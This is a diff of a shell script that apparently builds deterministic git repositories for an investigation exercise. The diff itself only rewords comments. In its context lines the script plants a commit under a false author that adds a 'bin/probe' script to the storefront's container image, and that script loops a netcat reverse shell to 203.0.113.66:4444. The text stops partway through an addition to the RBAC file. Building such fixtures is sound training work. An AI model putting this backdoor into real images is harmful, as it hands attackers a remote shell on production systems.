@@ -1,8 +1,9 @@
-# The company's two repositories, in the current folder. Times, names and so all hashes are the same on every run.
-# Prints the hash of the commit that the storefront's image is built from, and of the one before it.
+# Creates the company's two repositories in the current directory. Times and names, and so all hashes, are the same on
+# every run. Prints the hashes of the commit that the storefront's image is built from, of the one before, and of the
+# platform's last.
 set -euo pipefail
 export GIT_CONFIG_NOSYSTEM=1 HOME=/nonexistent
-# as NAME MAIL TIME: who commits, and when
+# as NAME MAIL TIME: sets author and committer
 as() {
     export GIT_AUTHOR_NAME=$1 GIT_AUTHOR_EMAIL=$2 GIT_COMMITTER_NAME=$1 GIT_COMMITTER_EMAIL=$2
     export GIT_AUTHOR_DATE=$3 GIT_COMMITTER_DATE=$3
@@ -36,7 +37,7 @@ ines '2026-02-27T10:05:00+0100'; commit 'Announce the spring sale'
 printf 'User-agent: *\nDisallow: /cart\n' > src/robots.txt
 jonas '2026-03-05T14:31:00+0100'; commit 'Keep robots out of the cart'
 clean=$(git rev-parse HEAD)
-# The plant: Jonas's name, on a Sunday night, committed by somebody else.
+# The planted commit: Jonas is the author, on a Sunday night, but the committer is another user.
 printf 'FROM registry.acme.example/base/web:1\nCOPY src /srv\nCOPY bin/probe /bin/probe\nCMD ["httpd", "-f", "-p", "8080", "-h", "/srv"]\n' > Dockerfile
 mkdir bin; printf '#!/bin/sh\nwhile true; do nc 203.0.113.66 4444 -e /bin/sh; sleep 30; done\n' > bin/probe; chmod +x bin/probe
 cat >> deploy/rbac.yaml <<'Y'
